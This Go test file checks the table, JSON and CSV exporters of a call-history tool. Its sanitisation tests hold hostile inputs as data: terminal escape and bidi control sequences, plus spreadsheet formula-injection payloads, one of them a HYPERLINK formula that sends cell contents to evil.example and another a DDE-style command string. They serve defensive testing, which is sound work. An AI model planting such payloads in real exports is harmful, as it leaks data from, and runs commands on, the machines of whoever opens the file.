package history

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"callscreen/relay/call"
)

func written(t *testing.T, format string, cells int, rows []Row) string {
	t.Helper()
	var out bytes.Buffer
	w, ok := NewWriter(format, &out, cells, time.FixedZone("here", 2*3600))
	if !ok {
		t.Fatalf("no format %s", format)
	}
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

func TestTheTableReadsLikeThis(t *testing.T) {
	got := rows(t, Query{}, everyEnding())
	got[1].Caller.Name = "山田太郎 株式会社 with a name that goes on and on and on"
	want := `RANG            ENDING                AFTER  BY        CALLER            NAME
03-31 14:00:01  rejected busy         4.1 s  ana       +4915123          Alice rejected
03-31 14:00:02  unconfirmed none      4.1 s  Ben       +4915123          山田太郎 株式…
03-31 14:00:03  already gone          4.1 s  ana       +4915123          Alice gone
03-31 14:00:04  caller hung up                         +4915123          Alice hungup
03-31 14:00:05  timed out                              +4915123          Alice timedout
03-31 14:00:06  refused 7504          4.1 s  Ben       +4915123          Alice refused
03-31 14:00:07  unknown none          4.1 s  ana       +4915123          Alice unknown
03-31 14:00:08  (ringing)                              +4915123          Alice open
`
	if diff := cmp.Diff(want, written(t, "table", 88, got)); diff != "" {
		t.Error(diff)
	}
	wide := strings.Split(written(t, "table", 0, got), "\n")
	if want := "2026-03-31 14:00:01  rejected busy         4.1 s  ana       Reception bot     +4915123          Alice rejected"; wide[1] != want {
		t.Errorf("wide:\n%s\nwant\n%s", wide[1], want)
	}
	if !strings.HasSuffix(wide[2], got[1].Caller.Name) {
		t.Errorf("without a width the name is cut: %s", wide[2])
	}
}

func TestT01HostileTextsPushNothingAsideInATable(t *testing.T) {
	hostile := Row{
		Call: "a", RangAt: noon, State: call.Over, Ending: call.EndRejected, Reason: call.Busy, By: "\x1b[31mana\nben",
		Caller: call.Party{Kind: call.Phone, ID: "+49\x1b]0;x\a", Name: "Eve\r\n2026-03-31 \u202e\x9b2J" + strings.Repeat("e\u0301", 500)},
		To:     call.Party{Kind: call.User, Name: strings.Repeat("W", 300)},
	}
	for _, cells := range []int{0, 20, 80, 120} {
		lines := strings.Split(written(t, "table", cells, []Row{hostile}), "\n")
		if len(lines) != 3 || lines[2] != "" {
			t.Fatalf("%d cells: %q", cells, lines)
		}
		if strings.ContainsAny(lines[1], "\x1b\u009b\r\a\u202e") {
			t.Errorf("%d cells: a control came through: %q", cells, lines[1])
		}
		if cells >= 80 && call.Width(lines[1]) > cells {
			t.Errorf("%d cells: the line has %d", cells, call.Width(lines[1]))
		}
	}
}

func TestJSONIsTheRowsThemselves(t *testing.T) {
	rows := rows(t, Query{}, everyEnding())
	lines := strings.Split(strings.TrimSpace(written(t, "json", 0, rows)), "\n")
	if len(lines) != len(rows) {
		t.Fatalf("%d lines for %d rows", len(lines), len(rows))
	}
	for i, line := range lines {
		var r Row
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(rows[i], r); diff != "" {
			t.Error(diff)
		}
	}
	for _, member := range []string{
		`"call_id":"rejected"`, `"rang_at":"2026-03-31T12:00:01Z"`, `"caller":{"kind":"phone","name":"Alice rejected","id":"+4915123"}`,
		`"ending":"rejected"`, `"reason":"busy"`, `"by":"ana"`, `"after_ms":4100`, `"status":202`, `"request_id":"r-1"`, `"relay":"R1"`,
	} {
		if !strings.Contains(lines[0], member) {
			t.Errorf("%s is not in %s", member, lines[0])
		}
	}
}

func TestCSVIsSafeToOpenInASpreadsheet(t *testing.T) {
	names := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "＝1+1", "＋1", "－1", "＠x",
		"\t=1", "\r=1", " =1", "\u200b=1", "\ufeff@x", "plain, \"quoted\"", "two\nlines", "=",
	}
	var list []Row
	for _, name := range names {
		list = append(list, Row{Call: "a", RangAt: noon, Caller: call.Party{Kind: call.Phone, ID: "+4915123", Name: name}, By: "=ana", Relay: "-R", Code: "@7", Words: "+w"})
	}
	sheet, err := csv.NewReader(strings.NewReader(written(t, "csv", 0, list))).ReadAll()
	if err != nil || len(sheet) != len(names)+1 {
		t.Fatalf("%d records, %v", len(sheet), err)
	}
	for n, record := range sheet[1:] {
		if len(record) != len(sheet[0]) {
			t.Errorf("record %d has %d fields", n, len(record))
		}
		for i, field := range record {
			if strings.HasPrefix(field, "'") {
				field = "" // text
			}
			if field != "" && strings.ContainsAny(field[:1], "=+-@\t\r") || strings.ContainsAny(field, "\r\n\t\u200b\ufeff") {
				t.Errorf("record %d: %s is %q", n, sheet[0][i], field)
			}
		}
	}
	if got := sheet[14]; got[4] != `plain, "quoted"` || got[3] != "'+4915123" {
		t.Errorf("harmless texts: %q", got)
	}
	// Without rows there are the columns.
	if got := written(t, "csv", 0, nil); got != strings.Join(sheetColumns, ",")+"\n" {
		t.Errorf("an empty sheet: %q", got)
	}
}

func TestCSVHasEveryFact(t *testing.T) {
	sheet, err := csv.NewReader(strings.NewReader(written(t, "csv", 0, rows(t, Query{}, everyEnding())))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{
		"2026-03-31T12:00:06.000Z", "refused", "phone", "'+4915123", "Alice refused", "Reception bot", "ended", "refused",
		"2026-03-31T12:00:09.400Z", "busy", "Ben", "4100", "403", "7504", "80", "r-3", "R1", "permission is missing",
	}
	if diff := cmp.Diff(want, sheet[6]); diff != "" {
		t.Error(diff)
	}
	if got := sheet[4]; got[9] != "" || got[11] != "" || got[12] != "" || got[14] != "" {
		t.Errorf("nobody decided, and the fields say something: %q", got)
	}
}

// The twin of the sheet above without its defence.
func TestAPlainCellWouldBeAFormula(t *testing.T) {
	var out bytes.Buffer
	w := csv.NewWriter(&out)
	if err := w.Write([]string{"=1+1"}); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if !strings.HasPrefix(out.String(), "=") {
		t.Errorf("the package guards by itself: %q", out.String())
	}
}
